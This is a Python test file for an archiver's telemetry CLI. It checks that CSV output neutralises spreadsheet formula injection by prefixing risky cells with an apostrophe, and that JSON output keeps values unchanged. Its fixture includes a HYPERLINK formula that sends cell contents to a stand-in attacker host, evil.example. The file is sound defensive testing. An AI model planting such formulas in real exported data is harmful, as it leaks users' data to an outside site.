"""`archiver telemetry` CSV opened in a spreadsheet: no upstream cell is a formula.

CSV is the command's default output, and a user tracking prices and latency redirects it to
a file and opens it in a spreadsheet. A string figure or figure name upstream sent as
`=HYPERLINK(...)` (or starting with `+`, `-`, `@`) was a formula there: one click sends the
row to another site. Text cells and column names that start so now start with an apostrophe,
the spreadsheet's own mark for text; numbers stay numbers (a status of -2 is still -2), and
`--format json` keeps every value exactly. A real small archive, one real sync of an edited
real capture, the command line in-process.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

from click.testing import CliRunner

import tests.small_captures as small
from archiver.capture.files import Capture
from archiver.cli import main
from tests.small_captures import small_archive, small_base, small_captures

__all__ = ["small_archive", "small_base", "small_captures"]

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"details")'
FORMULA_NAME = "@SUM(1+1)"
LEADS = ("=", "+", "-", "@")


def _formulas(endpoint: dict[str, Any]) -> dict[str, Any]:
    """Return an endpoint sending a formula as a figure and as a figure's name, status -2."""
    stats = {**(endpoint.get("stats") or {}), "p50_latency": FORMULA, FORMULA_NAME: 1}
    return {**endpoint, "status": -2, "stats": stats}


def test_telemetry_csv_cells_are_never_formulas(
    small_archive: Path, small_captures: list[Capture]
) -> None:
    edited, (endpoint_id,) = small.with_first_endpoints_edited(small_captures[1], [_formulas])
    assert small.sync_small(small_archive, edited).commit_id
    command = ["telemetry", "endpoint", endpoint_id, "--repo", str(small_archive)]

    as_csv = CliRunner().invoke(main, command)
    as_json = CliRunner().invoke(main, [*command, "--format", "json"])

    assert as_csv.exit_code == 0 and as_json.exit_code == 0, as_csv.output
    rows = list(csv.reader(io.StringIO(as_csv.stdout)))
    header, last = rows[0], dict(zip(rows[0], rows[-1], strict=True))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(LEADS) and cell != "-2"] == []
    assert last["stats.p50_latency"] == "'" + FORMULA  # Shown as text, whole.
    assert f"stats.{FORMULA_NAME}" in header  # Inside a dotted name it is no formula.
    assert last["status"] == "-2"  # A number is left alone.
    newest = json.loads(as_json.stdout)[-1]
    assert newest["stats"]["p50_latency"] == FORMULA and newest["status"] == -2
